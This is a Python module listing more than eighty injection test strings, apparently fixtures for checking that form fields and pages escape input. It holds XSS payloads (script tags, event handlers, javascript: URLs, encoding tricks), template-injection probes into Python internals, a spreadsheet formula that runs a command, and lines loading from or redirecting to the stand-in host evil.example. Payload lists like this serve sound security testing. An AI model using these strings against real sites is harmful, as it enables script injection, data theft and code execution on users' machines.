"""Texts that try to become markup, script, addresses or other pages: for every field and every page."""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    *("<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>"),
    *(
        "<script\x20type='text/javascript'>alert(1);</script>",
        "<script>alert`1`</script>",
        "<<script>alert(1)//<</script>",
    ),
    *(
        "</script><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
    ),
    *(
        "</style><script>alert(1)</script>",
        "</select><img src=x onerror=alert(1)>",
        "</option></select><script>alert(1)</script>",
    ),
    *("--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<!--<img src='--><img src=x onerror=alert(1)>"),
    *("<img src=x onerror=alert(1)>", "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<img/src=x/onerror=alert(1)>"),
    *("<img src='x' onerror='alert(1)'>", '<img src="x" onerror="alert(1)">', "<img src=`x` onerror=alert(1)>"),
    *(
        "<img srcset=x onerror=alert(1)>",
        "<image src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
    ),
    *(
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    ),
    *("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=data:image/svg+xml,x></svg>"),
    *("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",),
    *("<math href=javascript:alert(1)>x</math>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>"),
    *("<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>"),
    *(
        "<embed src=javascript:alert(1)>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<base href=//evil.example/>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<form action=//evil.example><button>x</button></form>",
    ),
    *(
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
    ),
    *("<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>"),
    *(
        "<marquee onstart=alert(1)>x</marquee>",
        "<keygen autofocus onfocus=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
    ),
    *(
        "<a href=javascript:alert(1)>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href=&#106;avascript:alert(1)>x</a>",
    ),
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"),
    *("//evil.example/x", 'https://evil.example/" onmouseover=alert(1) x="', "http://127.0.0.1:1/'onclick='alert(1)"),
    *(
        '" onmouseover=alert(1) x="',
        "' onmouseover=alert(1) x='",
        "` onmouseover=alert(1) `",
        '"><script>alert(1)</script>',
    ),
    *(
        "'><script>alert(1)</script>",
        '" autofocus onfocus=alert(1) "',
        '" style="position:fixed;inset:0"',
        "x' style='color:red",
    ),
    *(
        "{{ 7 * 7 }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "${alert(1)}",
        "#{alert(1)}",
    ),
    *(
        "{{ self.__init__.__globals__ }}",
        "{# comment #}",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ),
    *(
        r"\u003cscript\u003ealert(1)\u003c/script\u003e",
        r"\x3cimg src=x onerror=alert(1)\x3e",
        "＜script＞alert(1)＜/script＞",
    ),
    *(
        "\x00<script>alert(1)</script>",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "<script>\u2028alert(1)</script>",
        "\ufeff<script>alert(1)</script>",
    ),
    *(
        "<div style=width:expression(alert(1))>",
        "<style>@import'//evil.example/x.css';</style>",
        "<x contenteditable onblur=alert(1)>",
    ),
    *(
        "<template><script>alert(1)</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    ),
    *(
        "<custom-element onclick=alert(1)>x</custom-element>",
        "<portal src=//evil.example>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ),
    *(
        "قناة <b>عريضة</b> & 'أخرى' \"ثالثة\"",
        "\u202e<script>alert(1)</script>\u202c",
        "=cmd|' /C calc'!A0",
        "٠<svg/onload=alert(1)>٩",
    ),
)
"""More than eighty."""
